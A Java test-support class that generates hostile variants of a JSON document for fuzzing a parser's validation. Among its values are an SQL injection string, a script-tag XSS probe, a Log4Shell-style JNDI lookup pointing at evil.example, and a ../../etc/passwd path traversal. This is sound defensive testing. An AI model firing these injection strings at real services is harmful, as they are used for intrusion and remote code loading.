package io.thermalwatch.model;

import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_8;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;

/**
 * Hostile variants of one valid document: every value in it (nested ones too, and whole objects and
 * arrays) replaced by each hostile value, every member removed, every member given twice (after its
 * object's members and before them), an unknown member holding each hostile value, and junk documents.
 */
final class HostilePayloads {

    /** One payload; {@code name} says how it was made. */
    record Payload(String name, byte[] json) {
    }

    /** A raw JSON (or almost-JSON) value text, and a short label for names. */
    record Value(String label, String json) {
    }

    private static final String HOLE = "@@hostile@@";
    private static final String KEY_HOLE = "@@repeated@@";

    static final List<Value> VALUES = values();

    private HostilePayloads() {
    }

    private static List<Value> values() {
        List<Value> v = new ArrayList<>();
        for (String raw : List.of("null", "NaN", "Infinity", "-Infinity", "1e308", "-1e308", "1e+308", "1e309", "-1e309",
                "1e-400", "-1e-400", "-1", "0", "-0.0", "1", "1.0", "1e0", "1.5", "63", "63.0", "64", "100.0", "100.0001",
                "150", "150.0001", "-40", "-40.0001", "5000", "5000.001", "1e8", "100000000.1", "190.5", "-101.325", "-101.4",
                "2147483647", "2147483648", "2147483647.0", "4294967295", "4294967296", "4294967295.0",
                "9007199254740991", "9007199254740992", "9007199254740991.0", "9007199254740993.0",
                "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1000000000.0", "1e9",
                "1790000000000.0", "1790000010000", "1e+3", "0.1e1", "9".repeat(1200),
                "true", "false", "[]", "[1]", "[null]", "[{}]", "{}", "{\"a\":1}")) {
            v.add(new Value(raw.length() > 40 ? raw.length() + "-digit number" : raw, raw));
        }
        for (String s : List.of("", " ", "\\t\\n", "\\u00a0", "\\u2003", "\\u3000\\u2028", "\\u001c", "\\u0000", "\\ud800",
                "x", "300", "1.0", "null", "NaN", "true", "GPU-1", "OK", "'; DROP TABLE racks;--", "<script>alert(1)</script>",
                "${jndi:ldap://evil.example/a}", "../../etc/passwd", "\\\"},\\\"injected\\\":{\\\"", "🔥🚒 rack", "é",
                "a".repeat(256), "a".repeat(257), "🔥".repeat(256), "🔥".repeat(257))) {
            v.add(new Value(s.length() > 40 ? "string of " + s.codePointCount(0, s.length()) + " chars" : "\"" + s + "\"",
                    "\"" + s + "\""));
        }
        v.add(new Value("64 KB string", "\"" + "x".repeat(1 << 16) + "\""));
        v.add(new Value("64 KB string of spaces", "\"" + " ".repeat(1 << 16) + "\""));
        v.add(new Value("arrays nested 100 deep", "[".repeat(100) + "]".repeat(100)));
        v.add(new Value("arrays nested 2000 deep", "[".repeat(2000) + "]".repeat(2000)));
        v.add(new Value("objects nested 100 deep", "{\"a\":".repeat(100) + "1" + "}".repeat(100)));
        v.add(new Value("objects nested 5000 deep", "{\"a\":".repeat(5000) + "1" + "}".repeat(5000)));
        v.add(new Value("NaN in an array", "[1,NaN]"));
        return List.copyOf(v);
    }

    /** Feeds every payload made from {@code valid} to {@code sink}, one at a time (some hold 64 KB strings or 1 MB of whitespace). */
    static void generate(String valid, Consumer<Payload> sink) {
        JsonNode base = JsonPaths.read(valid);
        for (List<Object> path : JsonPaths.valuePaths(base)) {
            String at = JsonPaths.name(path);
            for (Value value : VALUES) {
                JsonNode doc = base.deepCopy();
                JsonPaths.set(doc, path, HOLE);
                sink.accept(payload(at + " = " + value.label(), JsonPaths.text(doc).replace("\"" + HOLE + "\"", value.json())));
            }
            JsonNode removed = base.deepCopy();
            JsonPaths.remove(removed, path);
            sink.accept(payload("missing " + at, JsonPaths.text(removed)));
            if (path.get(path.size() - 1) instanceof String member) {
                // "first": the repeat leads its object; data binding builds a record as soon as it has every
                // component, so a repeat after all of them fails there anyway, while one before is kept silently
                for (String again : List.of("same", "null", "first")) {
                    JsonNode doc = base.deepCopy();
                    ObjectNode parent = (ObjectNode) JsonPaths.parent(doc, path);
                    JsonNode repeat = again.equals("null") ? null : parent.get(member);
                    if (again.equals("first")) {
                        ObjectNode rest = parent.deepCopy();
                        parent.removeAll();
                        parent.set(KEY_HOLE, repeat);
                        parent.setAll(rest);
                    } else {
                        parent.set(KEY_HOLE, repeat);
                    }
                    sink.accept(payload(at + " given twice (" + again + ")",
                            JsonPaths.text(doc).replace("\"" + KEY_HOLE + "\"", "\"" + member + "\"")));
                }
            }
        }
        List<JsonNode> objects = new ArrayList<>();
        objects.add(base);
        base.findParents("id").forEach(objects::add);
        base.findParents("index").forEach(objects::add);
        for (JsonNode object : objects) {
            for (Value value : VALUES) {
                ((ObjectNode) object).put("futureField", HOLE);
                sink.accept(payload("unknown field = " + value.label() + " next to " + object.fieldNames().next(),
                        JsonPaths.text(base).replace("\"" + HOLE + "\"", value.json())));
                ((ObjectNode) object).remove("futureField");
            }
        }
        junk(JsonPaths.text(base), sink);
    }

    private static void junk(String valid, Consumer<Payload> sink) {
        String body = valid.substring(1, valid.length() - 1);
        for (String[] j : new String[][] {
            {"empty", ""}, {"whitespace only", " \n\t "}, {"null", "null"}, {"true", "true"}, {"a number", "42"},
            {"a string", "\"text\""}, {"empty array", "[]"}, {"top-level array", "[" + valid + "]"}, {"empty object", "{}"},
            {"not JSON", "not json"}, {"lone brace", "{"}, {"trailing garbage", valid + " x"}, {"two documents", valid + valid},
            {"trailing object", valid + "{}"}, {"truncated", valid.substring(0, valid.length() / 2)},
            {"missing value", "{\"schemaVersion\":}"}, {"comment", "/* c */" + valid}, {"single quotes", valid.replace('"', '\'')},
            {"trailing comma", "{" + body + ",}"}, {"leading and trailing whitespace", "\n\t " + valid + " \n"},
            {"unknown field twice", "{" + body + ",\"x-extra\":1,\"x-extra\":2}"},
            {"NaN as unknown field", "{" + body + ",\"x-extra\":NaN}"}, {"1 MB of leading spaces", " ".repeat(1 << 20) + valid},
            {"60000-char field name", "{" + body + ",\"" + "k".repeat(60_000) + "\":1}"},
            {"raw tab in a string", valid.replaceFirst("\":\"", "\":\"\t")},
            {"document nested 5000 deep", "[".repeat(5000) + valid + "]".repeat(5000)},
        }) {
            sink.accept(payload("junk: " + j[0], j[1]));
        }
        byte[] bom = ("\uFEFF" + valid).getBytes(UTF_8);
        sink.accept(new Payload("junk: UTF-8 byte order mark", bom));
        sink.accept(new Payload("junk: UTF-16BE", valid.getBytes(UTF_16BE)));
        byte[] badUtf8 = valid.replaceFirst("\":\"", "\":\"\u00ff").getBytes(UTF_8);
        for (int i = 0; i < badUtf8.length - 1; i++) {
            if ((badUtf8[i] & 0xff) == 0xc3 && (badUtf8[i + 1] & 0xff) == 0xbf) {
                badUtf8[i] = (byte) 0xff; // a byte that never occurs in UTF-8
                badUtf8[i + 1] = 'x';
                break;
            }
        }
        sink.accept(new Payload("junk: invalid UTF-8 byte in a string", badUtf8));
    }

    private static Payload payload(String name, String json) {
        return new Payload(name, json.getBytes(UTF_8));
    }
}
